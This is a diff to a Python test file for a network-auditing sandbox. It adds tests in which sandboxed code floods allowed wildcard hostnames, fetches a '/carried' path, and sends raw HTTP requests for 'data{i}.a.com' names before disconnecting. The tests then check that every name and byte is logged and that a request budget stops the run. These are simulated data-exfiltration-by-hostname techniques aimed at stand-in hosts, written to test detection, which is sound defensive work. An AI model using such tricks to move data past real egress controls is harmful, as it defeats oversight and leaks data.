@@ -2,7 +2,8 @@
 """126. Code inside carries data out by names, addresses of pages and names in ClientHellos that are refused, and by bytes to hosts that are allowed => every name, decision
 and number of bytes is in the result, in the ledger of the session and in the audit, by box; and a flood of names does not hide the others.
 """
-from internet import CLIENT, answers, internet, net_box, net_server  # noqa: F401
+import pytest
+from internet import CLIENT, SILENCE, answers, internet, net_box, net_server  # noqa: F401
 
 
 def rows(network):
@@ -68,6 +69,44 @@ def test_flood_of_names(internet, net_box):
     network = result.json["network"]
     assert network["requests"] == network["denied"] == 1000 and sum(row["requests"] for row in network["hosts"]) == 1000
     assert 100 <= len(network["hosts"]) <= 257 and rows(network)["n0.evil.example", 443, "no-rule"]
+
+
+def test_flood_of_names_that_pass(internet, net_box):
+    """Names that a rule lets pass and nobody knows: the host that is reached after them has its row all the same."""
+    site = internet.site("real.b.com", tls=False)
+    code = CLIENT + "for i in range(260): get(f'http://n{i}.a.com/')\nreport(get('http://real.b.com/carried')[0])"
+    result = net_box.run(code, allow=["http://*.a.com", "http://real.b.com"])
+    network = result.json["network"]
+    assert answers(result) == [200] and [r.path for r in site.requests] == ["/carried"]
+    assert rows(network)["real.b.com", 80, "allowed"]["requests"] == 1, network
+    assert network["requests"] == sum(row["requests"] for row in network["hosts"]) == 261
+
+
+@pytest.mark.parametrize("when", ["resolved", "dialled"])
+def test_gone_before_the_answer(internet, net_box, when):
+    """A name that was asked for has been told to somebody, also when the client is gone before it leads anywhere: it is counted, and the budget ends it."""
+    for i in range(20):
+        internet.names[f"data{i}.a.com"] = SILENCE if when == "resolved" else [f"198.50.1.{i + 1}"]
+    before = len(internet.names.asked)
+    code = CLIENT + """
+import struct, time
+for i in range(20):
+    s = dial()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    host = f"data{i}.a.com"
+    s.sendall(f"GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
+    time.sleep(0.05)
+    s.close()
+time.sleep(0.5)
+report(1)
+"""
+    result = net_box.run(code, allow=["http://*.a.com"], network_requests="3")
+    network = result.json["network"]
+    names = {name for name, _ in internet.names.asked[before:]}
+    assert answers(result) == [1] and network["cut"] == "requests", network
+    assert names == {f"data{i}.a.com" for i in range(3)}, names
+    told = {row["host"] for row in network["hosts"] if row["decision"] not in ("requests", "no-rule")}
+    assert told == names, network
 
 
 def test_hostile_names(internet, net_box):
